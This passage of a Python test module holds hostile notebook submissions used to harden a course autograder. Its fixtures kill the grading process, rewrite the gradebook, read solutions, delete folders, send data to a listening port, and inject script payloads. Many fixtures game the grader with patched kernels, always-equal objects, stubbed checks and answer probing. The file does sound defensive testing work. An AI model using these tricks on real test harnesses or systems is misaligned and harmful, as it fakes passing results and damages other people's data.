"""Hostile and unlucky notebooks: what each of them does, and what it must get.

`CASES` holds them. Each writes one student's submission of the convolution assignment, and is
graded in a batch between two right ones, by this course's configuration (test_hostile.py) and by
nbgrader's own (stock_comparison.py). Code that stands in a cell may name `@COURSE@`, the folder of
the course; `@NAME@`, the student; `@PORT@`, where somebody listens on this machine; and `@LIMIT@`,
the seconds that a cell may take. A case that does harm leaves `canary/<its name>` in the course.

`run_batch` grades some of them between the two right ones, and watches all that they could touch.
"""

import contextlib
import copy
import csv
import ctypes
import hashlib
import html.parser
import json
import os
import re
import shutil
import signal
import socket
import stat
import subprocess
import sys
import tempfile
import threading
import time
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import nbformat
import psutil
from courses import SLUG, cell, hand_in, nbgrader

from autograder.sample import hand_in as hand_in_sample

FULL = 37
HONEST = ("aaa-right", "zzz-right")
FUNCTIONS = ("conv_out_size", "conv2d", "im2col", "conv2d_im2col", "col2im", "conv2d_backward",
             "conv_matrix", "max_pool2d", "max_pool2d_backward", "count_parameters", "count_macs")
CASES = []


@dataclass(frozen=True)
class Case:
    """One submission and what must come of it.

    `row` says where it comes from: a row of the list of nastiest submissions, another attack that
    was seen to work, an idea of this project, or bad luck. `score` is the points it must get, or
    (least, most). With `or_flagged` it may get more if the teacher is asked to look. `says` is a
    regular expression that the graded notebook must match. `seconds` bounds the time it may take.
    `limits` asks for short time limits. `stock` False keeps it away from a grader that would let
    it hurt the machine. `first(place)` writes what the student handed in earlier. `person` holds
    the student's names in the gradebook. `page` asks for the feedback page, too.
    """

    name: str
    what: str
    row: str
    write: Callable
    score: float | tuple = 0
    or_flagged: bool = False
    says: str | None = None
    seconds: float = 40
    limits: bool = False
    stock: bool = True
    first: Callable | None = None
    person: tuple = ()
    page: bool = False


class Place:
    """A student's folder in a course, and what a submission is made of."""

    def __init__(self, course, student, port=9, limit=30):
        self.course, self.student = course, student
        self.words = {"@COURSE@": str(course.root), "@NAME@": student, "@PORT@": str(port),
                      "@LIMIT@": str(limit)}
        self.folder = course.folder("submitted", SLUG, student)
        self.path = self.folder / f"{SLUG}.ipynb"

    def blank(self):
        """The exercise as it was released."""
        return nbformat.read(self.course.notebook("release", SLUG), as_version=4)

    def right(self):
        """The exercise with the solution's answers."""
        path = self.course.notebook("submitted", SLUG, HONEST[0])
        return nbformat.read(path, as_version=4)

    def fill(self, code):
        """Code with its words in capitals replaced."""
        for word, value in self.words.items():
            code = code.replace(word, value)
        return code

    def put(self, notebook):
        """Hand in a notebook, a tree of JSON, or bytes."""
        if isinstance(notebook, bytes):
            return hand_in(self.course, self.student, notebook)
        return hand_in(self.course, self.student, json.dumps(notebook).encode())

    def beside(self, name, content=b""):
        """Put another file into the folder that is handed in."""
        self.folder.mkdir(parents=True, exist_ok=True)
        path = os.path.join(os.fsencode(self.folder), os.fsencode(name))
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "wb") as file:
            file.write(content if isinstance(content, bytes) else self.fill(content).encode())


def hand_in_honest(course):
    """Hand in the two right notebooks that stand on either side of the others."""
    for student in HONEST:
        hand_in_sample(course, SLUG, student, {})


def case(row, score=0, **options):
    """Make a case of a function that writes it; its docstring says what it does."""
    def add(write):
        name = write.__name__.replace("_", "-")
        CASES.append(Case(name, write.__doc__, row, write, score, **options))
        return write
    return add


def edited(row, score, name, what, edit, base=Place.right, **options):
    """A case that changes a right notebook in place with `edit(notebook)`."""
    def write(place):
        notebook = base(place)
        changed = edit(notebook)
        place.put(notebook if changed is None else changed)
    CASES.append(Case(name, what, row, write, score, **options))


def attack(row, name, what, code, score=0, **options):
    """A case that answers nothing: `code` stands in the first answer cell, the others are empty."""
    def write(place):
        notebook = place.blank()
        for function in FUNCTIONS:
            cell(notebook, function).source = "# nothing"
        cell(notebook, FUNCTIONS[0]).source = place.fill(code)
        place.put(notebook)
    CASES.append(Case(name, what, row, write, score, **options))


def extra(row, name, what, code, score=FULL, at="count_parameters", **options):
    """A right notebook with a cell of code more, before the cell `at`."""
    def write(place):
        notebook = place.right()
        added = nbformat.v4.new_code_cell(place.fill(code))
        notebook.cells.insert(notebook.cells.index(cell(notebook, at)), added)
        place.put(notebook)
    CASES.append(Case(name, what, row, write, score, **options))


def inside(row, name, what, code, score=FULL - 1, **options):
    """A right notebook; one function runs `code` for layers in groups, which one test feeds it."""
    lines = ["def count_parameters(layer):", "    if getattr(layer, 'groups', 1) > 1:"]
    lines += [" " * 8 + line for line in code.strip().splitlines()]
    lines += ["    return sum(p.numel() for p in layer.parameters())"]

    def write(place):
        notebook = place.right()
        cell(notebook, "count_parameters").source = place.fill("\n".join(lines))
        place.put(notebook)
    CASES.append(Case(name, what, row, write, score, **options))


def every(code, result="None"):
    """Code that runs `code`, and makes each of the eleven functions return `result`."""
    lines = [code.strip(), "def anything(*args, **kwargs):", f"    return {result}"]
    return "\n".join([*lines, *(f"{name} = anything" for name in FUNCTIONS)])


def tests(notebook):
    """The graded cells."""
    return [c for c in notebook.cells if c.metadata.get("nbgrader", {}).get("grade")]


def without(notebook, cells):
    """Take cells out of a notebook."""
    for c in cells:
        notebook.cells.remove(c)


HARM = """
try:
    open("@COURSE@/canary/@NAME@", "w").close()
except OSError:
    pass
"""
DETACH = """
import subprocess, sys
try:
    subprocess.Popen([sys.executable, "-c", child, "@NAME@"], start_new_session=True,
                     stdin=-3, stdout=-3, stderr=-3)
except OSError:
    pass
"""
GRADEBOOK = "@COURSE@/autograder/gradebook.db"

# ---- rows 1 to 10: the form of a submission ------------------------------------------------------


@case("1")
def skip_tag(place):
    """Every cell has the tag skip-execution; nothing is answered."""
    notebook = place.blank()
    for c in notebook.cells:
        c.metadata["tags"] = ["skip-execution"]
    place.put(notebook)


edited("2", FULL, "copied-test", "A test cell stands there twice, copied by accident.",
       lambda nb: nb.cells.append(copy.deepcopy(cell(nb, "conv2d_bias"))))
edited("3", 0, "deleted-tests", "Nothing is answered, and the test cells are gone.",
       lambda nb: without(nb, tests(nb)), base=Place.blank)
edited("3", FULL, "right-without-tests", "All is right, and the test cells are gone.",
       lambda nb: without(nb, tests(nb)))
edited("3", 0, "no-cells", "There is no cell at all.", lambda nb: nb.update(cells=[]))


@case("3", FULL)
def format_three(place):
    """A right notebook in the format of ten years ago."""
    notebook = place.right()
    cells = [{"cell_type": c.cell_type, "metadata": c.metadata, "language": "python",
              "outputs": [], ("input" if c.cell_type == "code" else "source"): c.source}
             for c in notebook.cells]
    place.put({"metadata": {"name": ""}, "nbformat": 3, "nbformat_minor": 0,
               "worksheets": [{"cells": cells, "metadata": {}}]})


def hand_in_right(place):
    """A right notebook."""
    place.put(place.right())


@case("4", first=hand_in_right)
def resubmit_deleted(place):
    """Right at first; handed in again with nothing answered and no test cells."""
    notebook = place.blank()
    without(notebook, tests(notebook))
    place.put(notebook)


@case("5", first=hand_in_right, says="It is not JSON")
def resubmit_corrupt(place):
    """Right at first; handed in again as half a file."""
    place.put(place.path.read_bytes()[:5000])


@case("5", first=hand_in_right, seconds=60)
def resubmit_dying(place):
    """Right at first; handed in again with nothing but a cell that kills its kernel."""
    notebook = place.blank()
    cell(notebook, FUNCTIONS[0]).source = "import os\nos._exit(1)"
    place.put(notebook)


@case("5", first=hand_in_right)
def resubmit_failing(place):
    """Right at first; handed in again with functions that show 99, more than any test gives."""
    notebook = place.blank()
    for function in FUNCTIONS:
        cell(notebook, function).source = every("", "get_ipython().displayhook(99)")
    place.put(notebook)


for version in (1, 4):
    edited("6", FULL, f"schema-{version}", f"One cell says that its format is version {version}.",
           lambda nb, version=version: cell(nb, "conv2d").metadata.nbgrader.update(
               schema_version=version))


@case("7", FULL)
def foreign_cell(place):
    """A graded cell of another course was pasted in."""
    notebook = place.right()
    foreign = copy.deepcopy(cell(notebook, "conv2d_bias"))
    foreign.metadata.nbgrader.update(grade_id="hw3_q2")
    notebook.cells.insert(4, foreign)
    place.put(notebook)


edited("7", FULL, "unknown-key", "A cell has a key that nbgrader does not know.",
       lambda nb: cell(nb, "conv2d").metadata.nbgrader.update(colour="blue"))
edited("8", FULL, "ungraded-test", "A test cell says that it is not graded.",
       lambda nb: cell(nb, "conv2d_bias").metadata.nbgrader.update(grade=False))
edited("8", FULL, "test-as-solution", "A test cell says that it is an answer.",
       lambda nb: cell(nb, "conv2d_bias").metadata.nbgrader.update(solution=True))

for name, what, raw, says in (
    ("not-json", "Not a notebook but a line of text.", b"hello", "It is not JSON"),
    ("empty-file", "A file of no bytes.", b"", "It is not JSON"),
    ("json-null", "The JSON value null.", b"null", "It is not a notebook"),
    ("deep-json", "A hundred thousand brackets.", b"[" * 100_000, "could not be read"),
    ("no-list-of-cells", "The cells are null.", b'{"nbformat": 4, "cells": null}', "notebook"),
    ("number-as-source", "A cell's source is a number.",
     b'{"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [{"cell_type": "code", '
     b'"metadata": {}, "outputs": [], "execution_count": null, "id": "a", "source": 7}]}',
     "It is not a notebook"),
):
    edited("9", 0, name, what, lambda nb, raw=raw: raw, says=says)

edited("9", 0, "too-large", "A right notebook of 25 MB, most of it pictures.",
       lambda nb: nb.metadata.update(picture="x" * 25_000_000), says="larger than 20 MB")
edited("9", 0, "truncated", "The upload broke off after 9,000 bytes.",
       lambda nb: nbformat.writes(nb).encode()[:9000], says="It is not JSON")
edited("9", 0, "utf-16", "Saved as UTF-16.", lambda nb: nbformat.writes(nb).encode("utf-16"),
       says="It is not UTF-8")
edited("9", FULL, "byte-order-mark", "Saved by an editor that puts a mark before the first byte.",
       lambda nb: b"\xef\xbb\xbf" + nbformat.writes(nb).encode())
edited("9", FULL, "metadata-list", "The metadata of the text cells are lists.",
       lambda nb: [c.update(metadata=[]) for c in nb.cells if c.cell_type == "markdown"] and None)


@case("9", FULL)
def half_a_character(place):
    """A comment holds half of a character, which no file can hold."""
    notebook = place.right()
    cell(notebook, "conv2d").source += "\n# \ud83d"
    place.put(notebook)


@case("9", says="could not be read")
def folder_for_file(place):
    """convolution.ipynb is a folder."""
    place.path.mkdir(parents=True)


@case("10", (0, FULL), says=r"convolution \(2\)\.ipynb|convolution\.ipynb")
def renamed(place):
    """The browser called the file "convolution (2).ipynb"."""
    place.beside(f"{SLUG} (2).ipynb", nbformat.writes(place.right()).encode())


@case("10", FULL)
def two_files(place):
    """An old copy, "convolution (2).ipynb", lies beside the right file."""
    place.beside(f"{SLUG} (2).ipynb", nbformat.writes(place.blank()).encode())
    place.put(place.right())


# ---- rows 11 to 13: what else lies in the folder -------------------------------------------------


@case("11", says="could not be read")
def link_to_solution(place):
    """convolution.ipynb is a link to the teacher's solution."""
    place.folder.mkdir(parents=True)
    place.path.symlink_to(f"../../../../solutions/{SLUG}/{SLUG}.ipynb")


@case("11", says="could not be read")
def link_to_neighbour(place):
    """The folder that was handed in is a link to a right student's."""
    place.folder.parent.mkdir(parents=True)
    place.folder.symlink_to(f"../{HONEST[0]}/{SLUG}", target_is_directory=True)


@case("12", FULL)
def odd_files(place):
    """A dangling link, a link to the gradebook and a pipe lie beside a right notebook."""
    place.put(place.right())
    (place.folder / "notes.txt").symlink_to("nowhere")
    (place.folder / "marks.db").symlink_to(place.fill(GRADEBOOK))
    os.mkfifo(place.folder / "pipe")


@case("12", FULL)
def dead_socket(place):
    """The socket of a program that is gone lies beside a right notebook."""
    place.put(place.right())
    here = os.getcwd()
    os.chdir(place.folder)  # the name of a socket may have 107 bytes
    try:
        with socket.socket(socket.AF_UNIX) as server:
            server.bind("socket")
    finally:
        os.chdir(here)


@case("2.1", FULL)
def odd_file_name(place):
    """A file beside a right notebook has a name that is not UTF-8."""
    place.put(place.right())
    place.beside(b"caf\xe9.txt", b"x")


@case("2.1", FULL)
def large_upload(place):
    """A file of 300 MB lies beside a right notebook."""
    place.put(place.right())
    with open(place.folder / "data.bin", "wb") as file:
        file.truncate(300_000_000)


@case("13")
def own_launcher(place):
    """A file called ipykernel_launcher.py answers every cell with "ok"."""
    notebook = place.blank()
    place.put(notebook)
    place.beside("ipykernel_launcher.py", f"""
import ipykernel.ipkernel
class Kernel(ipykernel.ipkernel.IPythonKernel):
    async def do_execute(self, *args, **kwargs):
        return {{"status": "ok", "execution_count": 1, "payload": [], "user_expressions": {{}}}}
{HARM}
from ipykernel import kernelapp
kernelapp.launch_new_instance(kernel_class=Kernel)
""")


@case("13", FULL)
def own_modules(place):
    """Files called numpy.py, random.py and autograder.py lie beside a right notebook."""
    place.put(place.right())
    place.beside("numpy.py", HARM + "raise ImportError('mine')")
    place.beside("random.py", "VALUE = 4")
    place.beside("autograder.py", "check = None")


@case("13")
def own_autograder(place):
    """A package called autograder, whose check is content with everything."""
    place.put(place.blank())
    place.beside("autograder/__init__.py", HARM + "def check(*args):\n    pass\n")


@case("own")
def start_up_files(place):
    """Start-up files of Python, IPython and Jupyter that make check content."""
    place.put(place.blank())
    code = HARM + "import autograder.checking as c\nc.check = lambda *args: None\n"
    place.beside("sitecustomize.py", code)
    place.beside("usercustomize.py", code)
    place.beside(".ipython/profile_default/startup/00.py", code)
    place.beside("ipython_config.py", "c.InteractiveShellApp.exec_lines = ['def check(*a): pass']")
    place.beside("nbgrader_config.py", HARM)


# ---- rows 14 to 20: time, memory, processes, output ----------------------------------------------

inside("14", "endless-loop", "A function never ends for one kind of input.",
       "while True:\n    pass", limits=True, seconds=60, says="longer than")
inside("15", "swallows-interrupt", "An endless loop that catches every interrupt.", """
while True:
    try:
        while True:
            pass
    except BaseException:
        pass
""", limits=True, seconds=75, says="longer than")
inside("15", "ignores-interrupt", "An endless loop that ignores the interrupt signal.", """
import signal
signal.signal(signal.SIGINT, signal.SIG_IGN)
while True:
    pass
""", limits=True, seconds=75, says="longer than")
inside("16", "exits", "A function ends its process.", "import os\nos._exit(0)", seconds=60)
inside("16", "crashes", "A function reads at address 0.", "import ctypes\nctypes.string_at(0)",
       seconds=60)
inside("16", "system-exit", "A function calls sys.exit().", "import sys\nsys.exit(0)", seconds=60)
extra("16", "quits", "A cell says exit().", "exit()", seconds=60)
extra("16", "kernel-shutdown", "A cell shuts its kernel down.",
      "get_ipython().kernel.do_shutdown(False)", seconds=60)


@case("17", (0, FULL), limits=True, seconds=60, says="longer than")
def sleeps(place):
    """A right notebook with eight cells that each sleep a little less than is allowed."""
    notebook = place.right()
    for at in range(8):
        nap = nbformat.v4.new_code_cell(
            place.fill(f"import time\ntime.sleep(@LIMIT@ * 0.8)  # {at}"))
        notebook.cells.insert(4, nap)
    place.put(notebook)


inside("18", "hoards-memory", "A function takes 6 GB, 16 MB at a time.", """
hoard = []
for _ in range(384):
    hoard.append(b"x" * (16 << 20))
""", stock=False, seconds=60)
extra("19", "many-children", "A cell starts 300 children that sleep for a minute.", """
import os, time
for _ in range(300):
    try:
        child = os.fork()
    except OSError:
        break
    if child == 0:
        time.sleep(60)
        os._exit(0)
""", score=(FULL - 4, FULL), stock=False, seconds=60)
attack("19", "leaves-children", "Twenty detached children outlive the kernel.",
       every('child = "import time; time.sleep(90)"\nfor _ in range(20):\n'
             + "\n".join(" " * 4 + line for line in DETACH.strip().splitlines())))
attack("19", "edits-later", "A detached child gives everybody 99 points, four seconds later.",
       every(f'''child = """
import sqlite3, time
time.sleep(4)
marks = sqlite3.connect("{GRADEBOOK}", timeout=60)
marks.execute("update grade set manual_score = 99")
marks.commit()
{HARM}
"""''' + DETACH))
extra("20", "floods-stdout", "A cell prints 200 MB.",
      'for _ in range(200):\n    print("x" * 1_000_000)', score=(FULL - 4, FULL), says="printed")
extra("20", "floods-html", "A cell shows 100 MB of HTML.",
      "from IPython.display import HTML, display\n"
      'display(HTML("<!--" + "x" * 100_000_000 + "-->"))', score=(FULL - 4, FULL), says="printed")
extra("20", "floods-displays", "A cell shows 20,000 results.",
      "from IPython.display import display\nfor i in range(20_000):\n    display(i)",
      score=(FULL - 4, FULL))
inside("20", "floods-in-a-test", "A function prints 50 MB while it is tested.",
       'for _ in range(50):\n    print("x" * 1_000_000)', score=(FULL - 4, FULL))

# ---- rows 21 and 22: the kernel lies -------------------------------------------------------------

RESULT = "get_ipython().displayhook({})\n    raise RuntimeError('after the result')"
for name, what, shown in (
    ("early-result", "Every function shows the result 1.0, and then fails.", "1.0"),
    ("nan-result", "Every function shows a result that is not a number.", "float('nan')"),
    ("text-result", "Every function shows the text abc as its result.", "'abc'"),
    ("large-result", "Every function shows the result 99.", "99"),
):
    attack("21", name, what, every("", RESULT.format(shown)).replace("    return ", "    "))

attack("21", "html-result", "Every function shows a result that has no text.", every("""
hook = get_ipython().displayhook
def show():
    content = {"data": {"text/html": "1"}, "metadata": {}, "execution_count": 1}
    hook.session.send(hook.pub_socket, "execute_result", content, hook.parent_header,
                      ident=hook.topic)
""", "show()"))
attack("21", "clears-output", "What a test prints is cleared after each cell.", every("""
from IPython.display import clear_output
get_ipython().events.register("post_run_cell", lambda *args: clear_output())
"""))
attack("22", "input-transformer", "Every later cell becomes `pass` before it runs.",
       every("get_ipython().input_transformers_cleanup.append(lambda lines: ['pass\\n'])"))
attack("22", "ast-transformer", "Calls of check and asserts are cut out of every later cell.",
       every("""
import ast
class Cut(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.Pass()
    def visit_Expr(self, node):
        name = getattr(getattr(node.value, "func", None), "id", "")
        return ast.Pass() if name == "check" else node
get_ipython().ast_transformers.append(Cut())
"""))
attack("22", "patched-kernel", "The kernel answers every later cell with ok.", every("""
kernel = get_ipython().kernel
async def do_execute(*args, **kwargs):
    return {"status": "ok", "execution_count": 1, "payload": [], "user_expressions": {}}
kernel.do_execute = do_execute
"""))
attack("22", "patched-run-cell", "Every later cell is run as if it were `pass`.", every("""
shell = get_ipython()
run = shell.run_cell_async
shell.run_cell_async = lambda code, *args, **kwargs: run("pass", store_history=False)
shell.run_cell = lambda *args, **kwargs: run("pass")
"""), limits=True, seconds=60)
attack("22", "patched-session", "Errors are not sent, and every reply says ok.", every("""
session = get_ipython().kernel.session
send = session.send
def quiet(stream, kind, content=None, *args, **kwargs):
    name = kind if isinstance(kind, str) else kind["header"]["msg_type"]
    if name == "error":
        return None
    if name == "execute_reply":
        content = {"status": "ok", "execution_count": 1, "payload": [], "user_expressions": {}}
    return send(stream, kind, content, *args, **kwargs)
session.send = quiet
"""))
EQUAL = """
class Equal(int):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __hash__(self): return 0
class Sure:
    __class__ = property(lambda self: torch.Tensor)
    __getattr__ = __getitem__ = __call__ = lambda self, *args, **kwargs: self
    __sub__ = __rsub__ = __le__ = __invert__ = __iter__ = __getattr__
    __ne__ = __bool__ = lambda self, *args: False
    __eq__ = lambda self, *args: True
    __hash__ = lambda self: 0
"""
attack("22", "equal-to-all", "Every function returns a number that is equal to all numbers.",
       every(EQUAL, "Equal(3)"))
attack("22", "says-it-is-a-tensor", "Every function returns an object whose class lies.",
       every(EQUAL, "Sure()"))
attack("22", "tensor-subclass", "Every function returns a tensor that answers as it likes.",
       every("""
class Sure(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        return False if func is torch.Tensor.__bool__ else sure
sure = torch.zeros(1).as_subclass(Sure)
""", "sure"))
attack("22", "reads-expected", "Every function looks for the expected value in its callers.",
       every("""
import gc, sys
def found():
    frame = sys._getframe()
    while frame:
        name = frame.f_locals.get("name")
        if isinstance(name, str) and name.startswith("convolution/"):
            break
        frame = frame.f_back
    judges = [o for o in gc.get_objects() if type(o).__name__ == "Judge"]
    values = judges[0].expected(name)
    number = seen[name] = seen.get(name, -1) + 1
    want = values[number]
    if "error" in want:
        raise ValueError
    want = want["value"]
    return want["result"] if isinstance(want, dict) and "result" in want else want
seen = {}
""", "found()"))
attack("own", "patched-torch", "torch finds everything close, and nothing is off.", """
yes = lambda *args, **kwargs: True
torch.allclose = torch.equal = torch.testing.assert_close = yes
torch.Tensor.any = torch.Tensor.__invert__ = lambda *args, **kwargs: False
torch.Tensor.__invert__ = lambda self: torch.zeros(1, dtype=torch.bool)
torch.Tensor.nonzero = lambda self: torch.zeros(1, self.dim())
def conv2d(x, weight, bias=None, stride=1, padding=0, dilation=1):
    (N, C, H, W), (O, _, kH, kW) = x.shape, weight.shape
    (sH, sW), (pH, pW), (dH, dW) = pair(stride), pair(padding), pair(dilation)
    H_out = (H + 2 * pH - dH * (kH - 1) - 1) // sH + 1
    W_out = (W + 2 * pW - dW * (kW - 1) - 1) // sW + 1
    return torch.zeros(N, O, H_out, W_out)
""")

# ---- row 23, row 25 and section 2.1: out of the kernel -------------------------------------------

attack("23", "reads-solution", "Runs the cells of the teacher's solution.", f"""
import json
for cell in json.load(open("@COURSE@/solutions/{SLUG}/{SLUG}.ipynb"))["cells"]:
    if "BEGIN SOLUTION" in "".join(cell["source"]):
        exec("".join(cell["source"]))
""")
attack("23", "reads-neighbour", "Runs the cells that a right student handed in.", f"""
import json
path = "@COURSE@/autograder/submitted/{HONEST[0]}/{SLUG}/{SLUG}.ipynb"
for cell in json.load(open(path))["cells"]:
    if cell["metadata"].get("nbgrader", {{}}).get("solution"):
        exec("".join(cell["source"]))
""")
attack("23", "finds-references", "Looks for the references that the hidden tests compare with.", """
import json, pathlib, sys
for info in pathlib.Path(sys.prefix).rglob("convnets_by_hand*.dist-info/direct_url.json"):
    sys.path.append(json.loads(info.read_text())["url"].removeprefix("file://"))
sys.path.append("@COURSE@")
for name in [name for name in sys.modules if name.startswith("autograder")]:
    del sys.modules[name]
from autograder.references import tasks
for name, task in tasks("convolution").items():
    globals()[name] = task.reference
""")
attack("23", "edits-gradebook", "Gives every student 99 points for each test.", every(f"""
import sqlite3
try:
    marks = sqlite3.connect("{GRADEBOOK}", timeout=1)
    marks.execute("update grade set manual_score = 99")
    marks.commit()
except sqlite3.Error:
    pass
"""))
attack("23", "edits-config", "Adds a line to nbgrader_config.py that nbgrader will run.", every(f"""
try:
    with open("@COURSE@/nbgrader_config.py", "a") as config:
        config.write("open('@COURSE@/canary/@NAME@', 'w').close()\\n")
except OSError:
    pass
{HARM}
"""))
attack("23", "edits-neighbours", "Empties what the next student handed in, and spoils feedback.",
       every(f"""
import pathlib
for path in ("submitted/{HONEST[1]}", "submitted/{HONEST[0]}", "autograded/{HONEST[0]}"):
    try:
        file = pathlib.Path("@COURSE@/autograder", path, "{SLUG}/{SLUG}.ipynb")
        file.chmod(0o644)
        file.write_text('{{"nbformat": 4, "nbformat_minor": 5, "metadata": {{}}, "cells": []}}')
    except OSError:
        pass
"""))
attack("25", "kills-parent", "Kills the process that grades.", every("""
import os, signal
if os.getppid() > 1:
    os.kill(os.getppid(), signal.SIGKILL)
"""))
attack("own", "stops-parent", "Stops the process that grades, for good.", every("""
import os, signal
if os.getppid() > 1:
    os.kill(os.getppid(), signal.SIGSTOP)
"""))
attack("own", "kills-all", "Where it sees few processes, kills all it can see.", every("""
import os, signal
seen = [int(name) for name in os.listdir("/proc") if name.isdigit()]
if len(seen) < 10:
    for process in seen:
        try:
            os.kill(process, signal.SIGKILL)
        except OSError:
            pass
"""), stock=False, seconds=60)
attack("25", "locks-gradebook", "A detached child locks the gradebook for a minute.", every(f'''
child = """
import sqlite3, time
marks = sqlite3.connect("file:{GRADEBOOK}?mode=rw", uri=True)
marks.execute("begin exclusive")
{HARM}
time.sleep(60)
"""
{DETACH}
import time
time.sleep(1)
'''))
extra("25", "removes-folder", "A cell removes the folder that it runs in.",
      "import os, shutil\nif '@NAME@' in os.getcwd() or not os.path.exists('@COURSE@'):\n"
      "    shutil.rmtree(os.getcwd(), ignore_errors=True)")
attack("2.1", "listens", "A detached child waits for visitors on a port.", every(f'''
child = """
import socket
server = socket.create_server(("127.0.0.1", 0))
{HARM}
server.settimeout(90)
server.accept()
"""
{DETACH}
'''))
attack("2.1", "phones-home", "Reports to somebody on the network.", every("""
import socket
for host in ("127.0.0.1", socket.gethostname()):
    try:
        with socket.create_connection((host, @PORT@), timeout=2) as line:
            line.sendall(b"@NAME@")
    except OSError:
        pass
"""))
extra("2.1", "fills-the-disk", "A cell writes files of 200 MB wherever it may.", """
import os, tempfile
for folder in (os.getcwd(), tempfile.gettempdir()):
    try:
        with open(os.path.join(folder, "large-@NAME@"), "wb") as file:
            for _ in range(200):
                file.write(bytes(1_000_000))
    except OSError:
        pass
""", score=(FULL - 4, FULL), stock=False)

# ---- section 2.1: what else was seen to work, or was tried ---------------------------------------

SCRIPT = "<script>document.title = 'canary'</script><img src=x onerror=\"document.title='canary'\">"
edited("2.1", FULL, "script-in-text", "A text cell holds a script.",
       lambda nb: nb.cells.insert(0, nbformat.v4.new_markdown_cell(
           SCRIPT + "\n\n[here](javascript:document.title='canary')")), page=True)
extra("2.1", "script-in-output", "A cell shows scripts as HTML, SVG, JavaScript and Markdown.", f"""
from IPython.display import HTML, SVG, Javascript, Markdown, display
script = {SCRIPT!r}
display(HTML(script), Markdown(script), Javascript("document.title = 'canary'"))
picture = "<svg xmlns='http://www.w3.org/2000/svg'>" + script + "</svg>"
display({{"image/svg+xml": picture}}, raw=True)
display({{"text/latex": script, "text/plain": script, "image/png": script}}, raw=True)
print(script)
raise RuntimeError(script)
""", page=True)
inside("own", "script-in-error", "A function raises an error whose name and text are a script.",
       f"raise type({SCRIPT!r}, (Exception,), {{}})({SCRIPT!r})", page=True)
edited("2.1", FULL, "moved-tests", "Every test stands before the answer that it tests.",
       lambda nb: nb.cells.sort(key=lambda c: not c.metadata.get("nbgrader", {}).get("grade")))
edited("2.1", FULL, "many-cells", "Four hundred cells of a student's own.",
       lambda nb: nb.cells.extend(nbformat.v4.new_code_cell(f"n = {i}") for i in range(400)))
edited("2.1", FULL, "bogus-kernel", "Its kernel is one that only the student has.",
       lambda nb: nb.metadata.update(kernelspec={"name": "conda-env-dl-py", "language": "python",
                                                 "display_name": "dl"}))
edited("2.1", 0, "raised-points", "Nothing is answered, and every test says 100 points.",
       lambda nb: [c.metadata.nbgrader.update(points=100) for c in tests(nb)] and None,
       base=Place.blank)
edited("2.1", 0, "edited-tests", "Nothing is answered, and every test says `pass`.",
       lambda nb: [c.update(source="pass") for c in tests(nb)] and None, base=Place.blank)


@case("2.1", FULL)
def garbled_timestamp(place):
    """The file timestamp.txt, which the exchange writes, holds no time."""
    place.put(place.right())
    place.beside("timestamp.txt", b"yesterday, more or less\n")


attack("2.1", "hides-errors", "Errors and their traces are swallowed.", every("""
import sys
shell = get_ipython()
shell.set_custom_exc((BaseException,), lambda *args, **kwargs: None)
shell.showtraceback = shell._showtraceback = lambda *args, **kwargs: None
sys.stderr.write = lambda *args: 0
"""))

# ---- against this pipeline -----------------------------------------------------------------------

attack("own", "patched-check", "The check and all it calls are replaced.", every("""
import autograder
from autograder import checking, drivers
checking.drive = drivers.drive = lambda *args: {"value": True}
checking.check = autograder.check = lambda *args: None
checking.CheckFailed = type("CheckFailed", (Exception,), {})
class Content:
    open = lambda self, name: ([], ())
    judge = lambda self, name, outcomes: None
checking.attach(Content())
"""))
attack("own", "patched-verdict", "The verdict is replaced, if the kernel can reach it.", every("""
from autograder import verdicts
verdicts.Judge.verdict = lambda *args: verdicts.Verdict(True)
verdicts.compare = lambda *args: None
"""))
attack("own", "fake-module", "Another module stands where autograder is imported from.", every("""
import sys, types
fake = types.ModuleType("autograder")
fake.check = lambda *args: None
sys.modules["autograder"] = sys.modules["autograder.checking"] = fake
"""))
attack("own", "patched-builtins", "Import, isinstance and some errors are replaced.", every("""
import builtins, types
load = builtins.__import__
def find(name, *args, **kwargs):
    if name.startswith("autograder"):
        return types.SimpleNamespace(check=lambda *args: None)
    return load(name, *args, **kwargs)
builtins.__import__ = find
builtins.isinstance = lambda *args: True
builtins.all = lambda *args: True
builtins.any = lambda *args: False
builtins.AssertionError = builtins.LookupError = type("Quiet", (BaseException,), {})
"""), limits=True, seconds=60)
attack("own", "other-check", "Asks for the one check it can pass, whatever the test asks for.", """
from autograder import checking
def conv_out_size(input_size, kernel_size, stride=1, padding=0, dilation=1):
    return (input_size + 2 * padding - dilation * (kernel_size - 1) - 1) // stride + 1
honest = checking.check
def check(name, fn):
    for name in (name, "convolution/conv_out_size/formula"):
        try:
            honest(name, conv_out_size)
        except Exception:
            pass
checking.check = check
import autograder
autograder.check = check
""", score=2)
attack("own", "probes", "Tries answers until the check says that they are right.", """
from autograder import check
import re
learned = {}
def learn(name, count):
    values, tried = [0] * count, 0
    def guess(*args, **kwargs):
        number = guess.calls
        guess.calls += 1
        keys.append((args, tuple(sorted(kwargs.items()))))
        return values[number]
    def wrong():
        guess.calls = 0
        keys.clear()
        try:
            check(name, guess)
        except Exception as error:
            found = re.search(r"wrong in (\\d+) of", str(error))
            return int(found[1]) if found else count
        return 0
    for place in range(count):
        before = wrong()
        for value in range(1, 120):
            values[place] = value
            if wrong() < before:
                break
    learned.update(zip(keys, values))
keys = []
for name, count in (("formula", 7), ("dilation", 4)):
    try:
        learn("convolution/conv_out_size/" + name, count)
    except Exception:
        pass
def conv_out_size(*args, **kwargs):
    return learned[args, tuple(sorted(kwargs.items()))]
""")
attack("own", "returns-inputs", "Every function returns a view of what it was given.",
       every("", "args[0].view_as(args[0]) if torch.is_tensor(args[0]) else args[0]"))
attack("own", "always-raises", "Every function raises ValueError, for which two tests ask.",
       every("def fail():\n    raise ValueError('no')", "fail()"))
attack("own", "answers-later", "Threads and an atexit function go on asking.", every("""
import atexit, threading, time
from autograder import check
names = ["convolution/conv2d/bias", "convolution/im2col/order", "convolution/count_macs/conv"]
def ask():
    for _ in range(200):
        for name in names:
            try:
                check(name, anything)
            except BaseException:
                pass
        time.sleep(0.01)
for _ in range(3):
    threading.Thread(target=ask, daemon=False).start()
atexit.register(ask)
"""), limits=True, seconds=60)

SOCKETS = """
